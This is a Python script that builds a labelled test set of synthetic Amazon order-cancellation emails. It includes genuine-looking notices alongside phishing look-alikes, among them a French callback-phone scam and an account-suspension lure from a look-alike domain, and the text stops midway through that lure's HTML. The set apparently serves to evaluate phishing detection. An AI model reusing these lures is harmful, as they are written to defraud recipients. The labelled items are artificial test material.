#!/usr/bin/env python3
"""Blind batch o2: French / Spanish / Brazilian-Portuguese mails around Amazon order
cancellations (genuine notices, near-miss non-notices, phishing look-alikes).

Run:  python3 make.py      -> writes mail/o2NNN.eml and labels.json next to this file.
Deterministic: fixed random seed, fixed dates, fixed boundaries and ids.
"""
import base64
import datetime as dt
import html as H
import io
import json
import os
import quopri
import random
from email.charset import Charset, QP, BASE64
from email.generator import BytesGenerator
from email.header import Header
from email.mime.base import MIMEBase
from email.mime.multipart import MIMEMultipart
from email.mime.nonmultipart import MIMENonMultipart
from email.utils import formataddr, format_datetime
from urllib.parse import quote

SEED = 20241202
rng = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "mail")
PREFIX = "o2"
MAILS = []


def add(**kw):
    MAILS.append(kw)


# ---------------------------------------------------------------- small helpers
ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
HEX = "0123456789abcdef"


def rid(n, alphabet=ALNUM):
    return "".join(rng.choice(alphabet) for _ in range(n))


def D(s):
    """'2024-03-14 09:12:33 +0000' -> aware datetime"""
    return dt.datetime.strptime(s, "%Y-%m-%d %H:%M:%S %z")


def trk(market, url, ref="pe_27063361_487055811"):
    """Amazon click-tracking redirect as seen in real mails."""
    msg = "urn:rtn:msg:" + rid(20, "0123456789") + rid(28, HEX) + "p0eu"
    return ("https://www.%s/gp/r.html?C=%s&K=%s&M=%s&R=%s&T=C&U=%s&H=%s&ref_=%s"
            % (market, rid(13), rid(13), msg, rid(13), quote(url, safe=""), rid(28), ref))


def ses_mid(region="eu-west-1"):
    return "<0102%s-%s-%s-%s-%s-000000@%s.amazonses.com>" % (
        rid(12, HEX), rid(8, HEX), rid(4, HEX), rid(4, HEX), rid(12, HEX), region)


def mid(domain, style="plain"):
    if style == "gmail":
        return "<CA%s%s@mail.gmail.com>" % (rid(10, "ABCDEFGHIJKLMNOPQRSTUVWXYZ"), rid(36, ALNUM + "abcdefghijklmnopqrstuvwxyz+_-"))
    if style == "outlook":
        return "<%s@%s.prod.outlook.com>" % (rid(40, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), rid(12, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"))
    return "<%s.%s@%s>" % (rid(14, "0123456789"), rid(10, HEX), domain)


def amazon_received(market, rcpt_mx, date, region="eu-west-1"):
    ip = "54.240.%d.%d" % (rng.randint(1, 60), rng.randint(2, 250))
    host = "a%s-%s.smtp-out.%s.amazonses.com" % (ip.split(".")[2], ip.split(".")[3], region)
    return ("from %s (%s [%s]) by %s with ESMTPS id %s for <%%s>; %s"
            % (host, host, ip, rcpt_mx, rid(10, HEX), format_datetime(date)))


def auth_pass(market, rcpt_mx):
    sel = rng.choice(["ug7nbtf4gccmlpwj322ax3p6ow6yfsug", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn",
                      "5n7ngz4ejkgxsfsl4khfwvt3k6zfihu2"])
    return ("%s; dkim=pass header.d=%s header.s=%s header.b=%s; "
            "spf=pass smtp.mailfrom=bounces.%s; dmarc=pass (p=QUARANTINE sp=QUARANTINE) header.from=%s"
            % (rcpt_mx, market, sel, rid(8, ALNUM + "abcdefghij"), market, market))


def bnd(style):
    if style == "amazon":
        return "----=_Part_%d_%d.%d" % (rng.randint(10**6, 10**8), rng.randint(10**8, 2 * 10**9), rng.randint(16 * 10**11, 17 * 10**11))
    if style == "gmail":
        return "0000000000" + rid(16, HEX)
    if style == "outlook":
        return "_000_%s_" % rid(36, ALNUM)
    if style == "apple":
        return "Apple-Mail=_%s-%s-%s-%s-%s" % (rid(8), rid(4), rid(4), rid(4), rid(12))
    if style == "thunder":
        return "------------%s" % rid(24, ALNUM)
    return "=_%s" % rid(20, HEX)


# ---------------------------------------------------------------- Amazon-like renderers
CSS = """
body { width:100% !important; height:100% !important; margin:0; padding:0; }
table, table td { border-collapse:collapse !important; }
table th { margin:0 !important; padding:0 !important; font-weight:normal; }
body, table, td, a { -webkit-text-size-adjust:100%; -ms-text-size-adjust:100%; }
.ReadMsgBody { width:100%; } .ExternalClass { width:100%; }
.ExternalClass, .ExternalClass p, .ExternalClass span, .ExternalClass font, .ExternalClass td, .ExternalClass div { line-height: 100%; }
td { font-family:Arial, sans-serif; }
.appleBody a { color:#68440a; text-decoration: none; }
.appleFooter a { color:#999999; text-decoration: none; }
@media only screen and (max-width: 680px){ *[class].deviceWidth { width:100% !important; } *[class].container { width:90% !important; } }
@media screen and (max-width: 480px){ *[class].hide { display:none !important; } *[class].block { display:block !important; } }
"""

SP = '<img src="http://g-ecx.images-amazon.com/images/G/01/e-mail/img/softlines/sp.gif" alt="" width="1" height="%d" style="display: block; border: none;" />'


def _spacer(h):
    return '<tr><td class="" colspan="1" height="%d" style="min-width:1; line-height: %dpx">%s</td></tr>\n' % (h, h, SP % h)


def _foot_item(f, link):
    if isinstance(f, str):
        return H.escape(f)
    before, label, url, after = f
    return '%s<a href="%s" style="color: #0066c0; text-decoration: none;">%s</a>%s' % (
        H.escape(before), H.escape(link(url)), H.escape(label), H.escape(after))


def amz_html(s, link=None):
    """s: spec dict. link: maps a target URL to the href actually written."""
    mk = s["market"]
    if link is None:
        link = lambda u: trk(mk, u)
    o = []
    o.append('<!DOCTYPE html>\n<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">\n<head>\n')
    o.append('<meta http-equiv="Content-Type" content="text/html; charset=%s" />\n' % s.get("meta_cs", "UTF-8"))
    o.append('<meta name="format-detection" content="telephone=no" />\n<meta name="viewport" content="width=device-width, initial-scale=1.0; user-scalable=no;" />\n')
    o.append('<meta http-equiv="X-UA-Compatible" content="IE=9; IE=8; IE=7; IE=EDGE" />\n<title>%s</title>\n<style type="text/css">%s</style>\n</head>\n' % (H.escape(s["title"]), CSS))
    o.append('<body style="margin:0; padding:0;">\n')
    if s.get("preheader"):
        o.append('<div style="display:none; max-height:0px; overflow:hidden;">%s</div>\n' % H.escape(s["preheader"]))
    o.append('<table width="100%" border="0" cellpadding="0" cellspacing="0" style="background-color:#ffffff;"><tbody><tr><td>&nbsp;</td><td width="640" align="center">\n')
    o.append('<table class="deviceWidth" width="640" border="0" cellpadding="0" cellspacing="0" style="border-collapse: collapse;"><tbody>\n')
    # header: logo + title
    o.append('<tr><td><table width="100%" border="0" cellpadding="0" cellspacing="0"><tbody><tr>\n')
    o.append('<td width="115" valign="top" style="padding: 14px 0 0 20px;"><a href="%s"><img alt="%s" src="https://m.media-amazon.com/images/G/08/x-locale/cs/te/logo._CB485926597_.png" width="103" height="31" border="0" style="display:block;" /></a></td>\n'
             % (H.escape(link("https://www.%s/ref=TE_tex_h" % mk)), H.escape(s["brand"])))
    o.append('<td valign="top" align="right" style="padding: 14px 20px 0 0; font-family: Arial, sans-serif; font-size: 20px; color: #666666;">%s</td>\n' % H.escape(s["title"]))
    o.append('</tr><tr><td colspan="2" style="padding: 6px 20px 0 20px; font-family: Arial, sans-serif; font-size: 12px;">')
    nav = s.get("nav", [])
    o.append(" | ".join('<a href="%s" style="color:#0066c0; text-decoration:none;">%s</a>' % (H.escape(link(u)), H.escape(t)) for t, u in nav))
    o.append('</td></tr>\n')
    if s.get("order"):
        o.append('<tr><td colspan="2" style="padding: 4px 20px 0 20px; font-family: Arial, sans-serif; font-size: 12px; color:#666666;">%s <a href="%s" style="color:#0066c0; text-decoration:none;">%s</a></td></tr>\n'
                 % (H.escape(s["order_label"]), H.escape(link(s["order_url"])), H.escape(s["order"])))
    o.append('</tbody></table></td></tr>\n')
    o.append(_spacer(18))
    # body
    o.append('<tr><td style="padding: 0 20px; border-top: 3px solid #2a2a2a;"><table width="100%" border="0" cellpadding="0" cellspacing="0"><tbody>\n')
    o.append(_spacer(14))
    if s.get("heading"):
        o.append('<tr><td style="font-family: Arial, sans-serif; font-size: 18px; color: #c60; font-weight: bold;">%s</td></tr>\n' % H.escape(s["heading"]))
        o.append(_spacer(10))
    o.append('<tr><td style="font-family: Arial, sans-serif; font-size: 14px; color: #000000; line-height: 20px;">%s</td></tr>\n' % H.escape(s["greeting"]))
    for p in s["paras"]:
        o.append(_spacer(8))
        o.append('<tr><td style="font-family: Arial, sans-serif; font-size: 14px; color: #000000; line-height: 20px;">%s</td></tr>\n' % H.escape(p))
    if s.get("items"):
        o.append(_spacer(16))
        o.append('<tr><td style="font-family: Arial, sans-serif; font-size: 16px; color: #c60; border-bottom: 1px solid #cccccc; padding-bottom: 4px;">%s</td></tr>\n' % H.escape(s["items_heading"]))
        for name, detail in s["items"]:
            o.append('<tr><td style="padding: 10px 0; border-bottom: 1px solid #eeeeee;"><table width="100%%" cellpadding="0" cellspacing="0" border="0"><tbody><tr>'
                     '<td width="90" valign="top"><img src="https://m.media-amazon.com/images/I/%s._SS90_.jpg" width="75" height="75" alt="" /></td>'
                     '<td valign="top" style="font-family: Arial, sans-serif; font-size: 14px; line-height: 19px;"><a href="%s" style="color:#0066c0; text-decoration:none;">%s</a><br /><span style="color:#666666; font-size: 12px;">%s</span></td>'
                     '</tr></tbody></table></td></tr>\n'
                     % (rid(11, ALNUM + "abcdefghijkmnpqrstuvwxyz"), H.escape(link("https://www.%s/dp/B0%s" % (mk, rid(8)))), H.escape(name), H.escape(detail)))
    if s.get("summary"):
        o.append(_spacer(10))
        o.append('<tr><td><table cellpadding="0" cellspacing="0" border="0" align="right"><tbody>')
        for a, b in s["summary"]:
            o.append('<tr><td style="font-family: Arial, sans-serif; font-size: 13px; padding: 2px 10px; color:#333333;">%s</td><td align="right" style="font-family: Arial, sans-serif; font-size: 13px; padding: 2px 0; font-weight:bold;">%s</td></tr>' % (H.escape(a), H.escape(b)))
        o.append('</tbody></table></td></tr>\n')
    for label, url in s.get("buttons", []):
        o.append(_spacer(18))
        o.append('<tr><td align="left"><table cellpadding="0" cellspacing="0" border="0"><tbody><tr><td style="background-color:#f0c14b; border:1px solid #a88734; border-radius:3px; padding: 8px 16px;">'
                 '<a href="%s" style="font-family: Arial, sans-serif; font-size: 13px; color:#111111; text-decoration:none;">%s</a></td></tr></tbody></table></td></tr>\n'
                 % (H.escape(link(url)), H.escape(label)))
    for p in s.get("after", []):
        o.append(_spacer(12))
        o.append('<tr><td style="font-family: Arial, sans-serif; font-size: 14px; color: #000000; line-height: 20px;">%s</td></tr>\n' % H.escape(p))
    if s.get("signoff"):
        o.append(_spacer(16))
        o.append('<tr><td style="font-family: Arial, sans-serif; font-size: 14px; color: #000000;">%s</td></tr>\n' % "<br />".join(H.escape(x) for x in s["signoff"]))
    o.append(_spacer(29))
    o.append('</tbody></table></td></tr>\n')
    # footer
    o.append('<tr><td style="padding: 0 20px; border-top: 1px solid #eaeaea;"><table width="100%" border="0" cellpadding="0" cellspacing="0"><tbody>\n')
    for f in s.get("footer", []):
        o.append(_spacer(7))
        o.append('<tr><td class="DisplayComponents" valign="top" align="left" style="color: #868686; font-family: Arial, sans-serif; font-size: 11px; line-height: 14px;">%s</td></tr>\n' % _foot_item(f, link))
    o.append(_spacer(29))
    o.append('</tbody></table></td></tr>\n</tbody></table>\n</td><td>&nbsp;</td></tr></tbody></table>\n')
    if s.get("pixel", True):
        o.append('<img width="1" height="1" src="%s" />' % H.escape(link("https://images-eu.ssl-images-amazon.com/images/G/01/nav/transp.gif").replace("T=C", "T=E")))
    o.append('</body>\n</html>\n')
    return "".join(o)


def amz_text(s, showlink=None):
    if showlink is None:
        showlink = lambda u: u
    o = [s["brand"], "-" * 72, ""]
    if s.get("heading"):
        o += [s["heading"], ""]
    o += [s["greeting"], ""]
    for p in s["paras"]:
        o += [p, ""]
    if s.get("order"):
        o += ["%s %s" % (s["order_label"], s["order"]), showlink(s["order_url"]), ""]
    if s.get("items"):
        o += [s["items_heading"], ""]
        for name, detail in s["items"]:
            o += ["    " + name, "    " + detail, ""]
    for a, b in s.get("summary", []):
        o.append("%s %s" % (a, b))
    if s.get("summary"):
        o.append("")
    for label, url in s.get("buttons", []):
        o += ["%s:" % label, showlink(url), ""]
    for p in s.get("after", []):
        o += [p, ""]
    if s.get("signoff"):
        o += s["signoff"] + [""]
    o += ["-" * 72, ""]
    for f in s.get("footer", []):
        if isinstance(f, str):
            o += [f, ""]
        else:
            o += ["%s%s%s %s" % (f[0], f[1], f[3], showlink(f[2])), ""]
    return "\n".join(o)


# ---------------------------------------------------------------- MIME assembly
def text_part(body, subtype, charset, cte):
    p = MIMENonMultipart("text", subtype, charset=charset)
    raw = body.encode(charset)
    if cte in ("8bit", "7bit"):
        cte = "7bit" if all(b < 128 for b in raw) else "8bit"
        payload = raw.decode("ascii", "surrogateescape")
    elif cte == "base64":
        payload = base64.encodebytes(raw).decode("ascii")
    elif cte == "quoted-printable":
        payload = quopri.encodestring(raw).decode("ascii")
    else:
        raise ValueError(cte)
    p.set_payload(payload)
    del p["MIME-Version"]
    p["Content-Transfer-Encoding"] = cte
    return p


def hdr(value, charset, name="Subject"):
    try:
        value.encode("ascii")
        return value
    except UnicodeEncodeError:
        return Header(value, charset, header_name=name)


def addr(name, address, charset):
    if not name:
        return address
    try:
        name.encode("ascii")
        return formataddr((name, address))
    except UnicodeEncodeError:
        return formataddr((name, address), charset=charset)


def build(m):
    cs = m.get("cs", "utf-8")
    cte = m.get("cte", "quoted-printable")
    hcs = m.get("hcs", cs if cs != "us-ascii" else "utf-8")
    style = m.get("bstyle", "amazon")
    text, htm = m.get("text"), m.get("html")
    if text and htm:
        body = MIMEMultipart("alternative", boundary=bnd(style))
        if m.get("att"):
            del body["MIME-Version"]
        body.attach(text_part(text, "plain", cs, m.get("text_cte", cte)))
        body.attach(text_part(htm, "html", cs, cte))
    elif htm:
        body = text_part(htm, "html", cs, cte)
    else:
        body = text_part(text, "plain", cs, cte)
    if m.get("att"):
        root = MIMEMultipart("mixed", boundary=bnd(style))
        root.attach(body)
        for fname, ctype, data in m["att"]:
            maintype, subtype = ctype.split("/")
            a = MIMEBase(maintype, subtype, name=fname)
            del a["MIME-Version"]
            a.set_payload(base64.encodebytes(data).decode("ascii"))
            a["Content-Transfer-Encoding"] = "base64"
            a["Content-Disposition"] = 'attachment; filename="%s"' % fname
            root.attach(a)
    else:
        root = body
    mime = [(k, v) for k, v in root.items() if k.lower() != "mime-version"]
    for k in set(k for k, _ in root.items()):
        del root[k]
    date = D(m["date"])
    fn, fa = m["frm"]
    rcpt = m["to"][1]
    for k, v in m.get("pre", []):          # trace headers first
        root[k] = v.replace("<%s>", "<%s>" % rcpt) if "%s" in v else v
    root["From"] = addr(fn, fa, hcs)
    if m.get("reply_to"):
        root["Reply-To"] = addr(m["reply_to"][0], m["reply_to"][1], hcs)
    root["To"] = addr(m["to"][0], rcpt, hcs)
    root["Subject"] = hdr(m["subj"], hcs)
    root["Date"] = format_datetime(date)
    root["Message-ID"] = m.get("msgid") or mid(fa.split("@")[1])
    root["MIME-Version"] = "1.0"
    for k, v in m.get("extra", []):
        root[k] = v
    for k, v in mime:
        root[k] = v
    buf = io.BytesIO()
    BytesGenerator(buf, mangle_from_=False, maxheaderlen=78).flatten(root)
    return buf.getvalue()


# ---------------------------------------------------------------- mail factories
def rcpt_mx(address):
    dom = address.split("@")[1]
    if dom in ("gmail.com",):
        return "mx.google.com"
    if dom.startswith(("outlook.", "hotmail.", "live.")):
        return "mx.outlook.com"
    return "mx1.%s" % dom


def genuine(spec, sender, to, subj, date, auth, fmt, cs="utf-8", cte="quoted-printable",
            region="eu-west-1", extra=(), **labels):
    """A message sent by Amazon itself (market from spec)."""
    mk = spec["market"]
    mxh = rcpt_mx(to[1])
    d = D(date)
    pre = [("Return-Path", "<%s%s@bounces.%s>" % (d.strftime("%Y%m%d%H%M%S"), rid(24, HEX), mk))]
    if auth:
        pre.append(("Authentication-Results", auth_pass(mk, mxh)))
    pre.append(("Received", amazon_received(mk, mxh, d, region)))
    ex = [("X-AMAZON-MAIL-RELAY-TYPE", "notification"),
          ("Bounces-to", "%s%s@bounces.%s" % (d.strftime("%Y%m%d%H%M%S"), rid(24, HEX), mk)),
          ("X-AMAZON-RTE-VERSION", "2.0"),
          ("X-SES-Outgoing", "%s-54.240.%d.%d" % (d.strftime("%Y.%m.%d"), rng.randint(1, 60), rng.randint(2, 250))),
          ("Feedback-ID", "1.%s.%s=:AmazonSES" % (region, rid(43, ALNUM + "abcdefghijklmnopqrstuvwxyz")))] + list(extra)
    if spec.get("meta_cs") is None and cs.lower() != "utf-8":
        spec["meta_cs"] = cs.upper()
    add(frm=(spec["brand"], "%s@%s" % (sender, mk)), reply_to=("", "no-reply@%s" % mk), to=to,
        subj=subj, date=date, pre=pre, extra=ex, msgid=ses_mid(region),
        text=amz_text(spec) if fmt in ("alt", "text") else None,
        html=amz_html(spec) if fmt in ("alt", "html") else None,
        cs=cs, cte=cte, bstyle="amazon", **labels)


def trace(helo, ip, to, date, auth):
    """Trace headers for a non-Amazon or forged message. auth: (spf, dkim_dom or None, dmarc, from_dom)"""
    mxh = rcpt_mx(to[1])
    spf, dkd, dmarc, fromdom = auth
    ar = "%s; spf=%s smtp.mailfrom=%s; " % (mxh, spf, helo.split(".", 1)[-1] if helo.count(".") > 1 else helo)
    ar += ("dkim=pass header.d=%s header.s=s1 header.b=%s; " % (dkd, rid(8))) if dkd else "dkim=none (message not signed); "
    ar += "dmarc=%s header.from=%s" % (dmarc, fromdom)
    rcv = "from %s (%s [%s]) by %s with ESMTPS id %s for <%%s>; %s" % (helo, helo, ip, mxh, rid(10, HEX), format_datetime(D(date)))
    return [("Authentication-Results", ar), ("Received", rcv)]


# ================================================================= FRENCH (fr)
FOOT_FR = [
    "Cet e-mail a été envoyé à partir d'une adresse ne pouvant recevoir d'e-mails. Merci de ne pas y répondre.",
    ("Amazon ne vous demandera jamais de lui communiquer votre mot de passe, vos coordonnées bancaires ou d'autres informations personnelles par e-mail, SMS ou téléphone. Si vous recevez un message suspect prétendant provenir d'Amazon, ",
     "signalez-le ici", "https://www.amazon.fr/gp/help/customer/display.html?nodeId=GVQEU8LZ2A6TFTJR", "."),
    ("Si le numéro ou la date d'expiration de votre carte bancaire a changé, mettez à jour vos informations de paiement dans ",
     "Votre compte", "https://www.amazon.fr/cpe/yourpayments/wallet", "."),
    ("Des questions ? Consultez notre ", "Aide et service client", "https://www.amazon.fr/gp/help/customer/display.html", "."),
    "Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Luxembourg. RCS Luxembourg : B-101818.",
]
FOOT_BE = [f if isinstance(f, str) else (f[0], f[1], f[2].replace("amazon.fr", "amazon.com.be"), f[3]) for f in FOOT_FR]
FOOT_CA = [
    "Ce courriel a été envoyé à partir d'une adresse qui ne peut pas recevoir de courriels. Veuillez ne pas y répondre.",
    ("Amazon.ca ne vous demandera jamais votre mot de passe ni les renseignements complets de votre carte de crédit par courriel. Pour savoir comment reconnaître un courriel frauduleux et le signaler, consultez ",
     "Signaler une activité suspecte", "https://www.amazon.ca/gp/help/customer/display.html?nodeId=GVQEU8LZ2A6TFTJR&language=fr_CA", "."),
    ("Si le numéro de votre carte de crédit ou sa date d'expiration a changé, mettez-le à jour dans ",
     "Votre compte", "https://www.amazon.ca/cpe/yourpayments/wallet?language=fr_CA", "."),
    "Amazon.com.ca, ULC | 40 King Street W 47th Floor, Toronto (Ontario) M5H 3Y2 | www.amazon.ca",
]
NAV_FR = lambda mk: [("Vos commandes", "https://www.%s/gp/css/order-history" % mk), ("Votre compte", "https://www.%s/gp/css/homepage.html" % mk), ("%s" % mk.capitalize(), "https://www.%s/" % mk)]


def fr_spec(mk, brand, title, heading, greeting, paras, order=None, items=(), items_heading="Article(s) annulé(s)",
            buttons=(), after=(), footer=None, summary=(), preheader=None, lang="fr_FR"):
    q = "" if lang == "fr_FR" else "?language=" + lang
    return dict(market=mk, brand=brand, title=title, heading=heading, greeting=greeting, paras=list(paras),
                order=order, order_label="Commande n°", order_url="https://www.%s/gp/your-account/order-details?orderID=%s%s" % (mk, order, q.replace("?", "&")),
                items=list(items), items_heading=items_heading, buttons=list(buttons), after=list(after),
                signoff=["Cordialement,", "Le Service Client d'%s" % brand if brand[0] in "AEIOU" else "Le Service Client de %s" % brand],
                footer=footer if footer is not None else FOOT_FR, summary=list(summary), preheader=preheader,
                nav=NAV_FR(mk))


# ---- notices
genuine(fr_spec("amazon.fr", "Amazon.fr", "Commande annulée", "Votre commande a été annulée",
                "Bonjour Claire Dubois,",
                ["Nous sommes désolés de vous informer que nous avons dû annuler votre commande n° 405-3817264-9921437.",
                 "L'article ci-dessous n'est plus disponible : notre fournisseur nous a informés qu'il ne pourrait pas nous le livrer et nous ne sommes pas en mesure de nous le procurer dans un délai raisonnable.",
                 "Votre moyen de paiement n'a pas été débité pour cet article. Si une autorisation de paiement apparaît sur votre relevé bancaire, elle sera levée automatiquement sous quelques jours."],
                order="405-3817264-9921437",
                items=[("Tefal Ingenio Emotion Batterie de cuisine 13 pièces, inox, tous feux dont induction", "Quantité : 1 | Vendu par Amazon EU S.à r.l. | 129,99 €")],
                buttons=[("Trouver un article similaire", "https://www.amazon.fr/s?k=tefal+ingenio+emotion"),
                         ("Voir vos commandes", "https://www.amazon.fr/gp/css/order-history")],
                after=["Nous vous prions de nous excuser pour la gêne occasionnée et espérons vous revoir bientôt sur Amazon.fr."],
                preheader="Un article de votre commande n'est plus disponible"),
        "order-update", ("Claire Dubois", "claire.dubois@orange.fr"),
        "Votre commande Amazon.fr n° 405-3817264-9921437 a été annulée", "2024-02-19 07:42:18 +0000", True, "alt",
        kind="notice", lang="fr", cause="inventory_shortage", sr=True, mk="amazon.fr",
        note="supplier cannot deliver, item unavailable; Amazon template; auth pass")

genuine(fr_spec("amazon.ca", "Amazon.ca", "Commande annulée", None, "Bonjour Sophie Tremblay,",
                ["Nous n'avons pas été en mesure d'obtenir l'autorisation de paiement de l'émetteur de votre carte de crédit Visa se terminant par 4821 pour la commande 702-5519034-2287615.",
                 "Le 11 mars, nous vous avons envoyé un courriel vous demandant de réviser vos renseignements de paiement. Comme nous n'avons pas reçu de mode de paiement valide dans le délai prévu, votre commande a été annulée.",
                 "Si vous souhaitez toujours recevoir ces articles, vous pouvez les commander de nouveau. Pour éviter que cette situation se reproduise, vérifiez que l'adresse de facturation enregistrée correspond à celle figurant sur le relevé de votre carte."],
                order="702-5519034-2287615",
                items=[("Ninja Friteuse à air AF101C, 3,8 L, noir", "Quantité : 1 | 129,99 $"),
                       ("Tapis en silicone pour friteuse à air, lot de 2", "Quantité : 1 | 14,99 $")],
                items_heading="Articles annulés :",
                buttons=[("Mettre à jour vos modes de paiement", "https://www.amazon.ca/cpe/yourpayments/wallet?language=fr_CA")],
                footer=FOOT_CA, lang="fr_CA"),
        "payments-messages", ("Sophie Tremblay", "sophie.tremblay@videotron.ca"),
        "Votre commande Amazon.ca 702-5519034-2287615 a été annulée", "2024-03-15 16:05:51 +0000", False, "text",
        cs="utf-8", cte="8bit", region="us-east-1",
        kind="notice", lang="fr", cause="payment_issue", sr=True, mk="amazon.ca",
        note="card authorisation failed, payment revision not done in time; fr-CA; text only 8bit")

genuine(fr_spec("amazon.com.be", "Amazon.com.be", "Information sur votre commande", "Un article de votre commande a été annulé",
                "Bonjour Thomas Peeters,",
                ["Nous vous contactons au sujet de votre commande n° 403-7720451-6638290 passée le 6 novembre 2024.",
                 "À la suite d'une erreur technique, l'article ci-dessous a été affiché sur notre site avec un prix incorrect (49,99 € au lieu de 499,99 €). Conformément à nos Conditions générales de vente, nous avons annulé cet article de votre commande.",
                 "Vous ne serez pas débité pour cet article. Nous vous prions de nous excuser pour ce désagrément."],
                order="403-7720451-6638290",
                items=[("Samsung Galaxy Tab S9 FE, 128 Go, Wi-Fi, Gris", "Quantité : 1 | Prix affiché : 49,99 €")],
                buttons=[("Voir les détails de la commande", "https://www.amazon.com.be/gp/your-account/order-details?orderID=403-7720451-6638290")],
                footer=FOOT_BE),
        "order-update", ("Thomas Peeters", "thomas.peeters@skynet.be"),
        "Information importante concernant votre commande Amazon.com.be 403-7720451-6638290", "2024-11-07 10:21:09 +0000", True, "html",
        cte="base64",
        kind="notice", lang="fr", cause="technical_issue", sr=True, mk="amazon.com.be",
        note="pricing error, item cancelled; HTML only base64; auth pass")

genuine(fr_spec("amazon.fr", "Amazon.fr", "Compte en attente", "Commande annulée et compte mis en attente",
                "Bonjour Nathalie Girard,",
                ["Nous avons détecté une activité inhabituelle sur votre compte Amazon.fr. Par mesure de précaution, nous avons mis votre compte en attente et annulé votre commande n° 408-2290517-3374126.",
                 "Pour rétablir l'accès à votre compte, rendez-vous sur www.amazon.fr, connectez-vous et suivez les instructions affichées afin de vérifier votre identité. Nous pourrons vous demander de confirmer les informations de paiement associées à cette commande.",
                 "Aucun montant n'a été prélevé pour cette commande. Une fois la vérification effectuée, vous pourrez la passer de nouveau."],
                order="408-2290517-3374126",
                items=[("Apple AirPods Pro (2e génération) avec boîtier de charge MagSafe (USB-C)", "Quantité : 2 | 279,00 € chacun")],
                buttons=[("Accéder à votre compte", "https://www.amazon.fr/a/c/account-status")],
                after=["Nous ne vous demanderons jamais votre mot de passe ni votre numéro de carte complet par e-mail. Ne cliquez pas sur des liens reçus par SMS vous demandant de vérifier votre compte."]),
        "cs-reply", ("Nathalie Girard", "n.girard@laposte.net"),
        "Votre commande Amazon.fr 408-2290517-3374126 a été annulée", "2024-06-03 21:14:40 +0000", False, "alt",
        kind="notice", lang="fr", cause="fraud_prevention", sr=True, mk="amazon.fr",
        note="unusual activity, account on hold, identity verification; no auth header")

genuine(fr_spec("amazon.fr", "Amazon.fr", "Annulation confirmée", "Annulation réussie", "Bonjour Marc Lefèvre,",
                ["Conformément à votre demande, nous avons annulé l'article suivant de votre commande n° 402-6649182-5513357.",
                 "Motif de l'annulation : annulé par le client",
                 "Si vous avez déjà été débité pour cet article, le remboursement sera effectué sur votre moyen de paiement d'origine sous 3 à 5 jours ouvrés. Sinon, aucun montant ne sera prélevé."],
                order="402-6649182-5513357",
                items=[("LEGO 42151 Technic Bugatti Bolide, maquette de voiture à construire", "Quantité : 1 | 44,99 €")],
                items_heading="Article annulé :",
                buttons=[("Voir vos commandes", "https://www.amazon.fr/gp/css/order-history")],
                after=["Les autres articles de votre commande seront expédiés comme prévu."]),
        "auto-confirm", ("Marc Lefèvre", "marc.lefevre@free.fr"),
        "Annulation réussie de « LEGO 42151 Technic Bugatti Bolide » de votre commande Amazon.fr 402-6649182-5513357",
        "2024-12-02 09:03:27 +0000", True, "text", cs="iso-8859-15", cte="quoted-printable",
        kind="notice", lang="fr", cause="customer_request", sr=True, mk="amazon.fr",
        note="customer cancelled; text only iso-8859-15 QP; auth pass")

genuine(fr_spec("amazon.ca", "Amazon.ca", "Article annulé", "Article annulé", "Bonjour Étienne Gagnon,",
                ["Nous vous informons que l'article suivant a été annulé de votre commande n° 701-8834120-4410258.",
                 "Vous ne serez pas facturé pour cet article. Les autres articles de votre commande, le cas échéant, seront expédiés comme prévu et vous recevrez un courriel de confirmation lors de l'expédition."],
                order="701-8834120-4410258",
                items=[("Coleman Sac de couchage Brazos, -5 °C, bleu", "Quantité : 1 | 64,97 $")],
                buttons=[("Voir ou modifier votre commande", "https://www.amazon.ca/gp/your-account/order-details?orderID=701-8834120-4410258&language=fr_CA")],
                after=["Nous espérons vous revoir bientôt."], footer=FOOT_CA, lang="fr_CA"),
        "order-update", ("Étienne Gagnon", "etienne.gagnon@gmail.com"),
        "Article annulé de votre commande Amazon.ca 701-8834120-4410258", "2024-08-22 13:48:02 +0000", False, "alt",
        cte="base64", region="us-east-1",
        kind="notice", lang="fr", cause="unknown", sr=False, mk="amazon.ca",
        note="item cancelled, no reason given; fr-CA; base64")

# ---- lookalikes (fr)
add(kind="lookalike", lang="fr", cause="payment_issue", sr=True, mk=None,
    note="callback phone number, gmail sender, malformed order number, crude",
    frm=("Service Client Amazon", "service.clientamazon.fr@gmail.com"), to=("", "claire.dubois@orange.fr"),
    subj="Annulation de votre commande #403-88172-1123", date="2024-04-09 05:31:12 +0000",
    pre=trace("mail-sor-f41.google.com", "209.85.220.41", ("", "claire.dubois@orange.fr"), "2024-04-09 05:31:12 +0000",
              ("pass", "gmail.com", "pass", "gmail.com")),
    msgid=mid("", "gmail"), bstyle="gmail", cs="utf-8", cte="8bit",
    text="""Cher(e) client(e),

Votre commande #403-88172-1123 d'un montant de 1 249,00 EUR (Apple iPhone 15 Pro Max 256 Go - Titane naturel) a été ANNULÉE suite à un échec de paiement sur votre carte bancaire.

Un prélèvement de 1 249,00 EUR reste néanmoins EN ATTENTE sur votre compte bancaire. Pour obtenir le remboursement immédiat, ou si vous n'êtes pas à l'origine de cette commande, contactez IMMÉDIATEMENT notre service client :

     ☎  01 86 95 47 21  (appel gratuit - 7j/7 - 24h/24)

Attention : sans appel de votre part sous 24 heures, le montant sera définitivement débité et ne pourra plus être remboursé.

Merci de votre confiance,
Service Client Amazon France
Amazon.fr Inc.
""")

add(kind="lookalike", lang="fr", cause="fraud_prevention", sr=True, mk=None,
    note="account suspended + order cancelled, reactivation code, look-alike domain amazon-orders.help, HTML only",
    frm=("Amazon", "no-reply@amazon-orders.help"), to=("", "n.girard@laposte.net"),
    subj="Votre compte a été suspendu - commande n° 404-1182736-5519203 annulée", date="2024-05-27 02:18:44 +0000",
    pre=trace("mail.amazon-orders.help", "185.234.216.77", ("", "n.girard@laposte.net"), "2024-05-27 02:18:44 +0000",
              ("pass", "amazon-orders.help", "pass", "amazon-orders.help")),
    bstyle="other", cs="utf-8", cte="quoted-printable",
    html="""<html><head><meta charset="utf-8"><title>Amazon</title></head>
<body style="font-family:Arial,Helvetica,sans-serif;background:#f3f3f3;margin:0;padding:20px;">
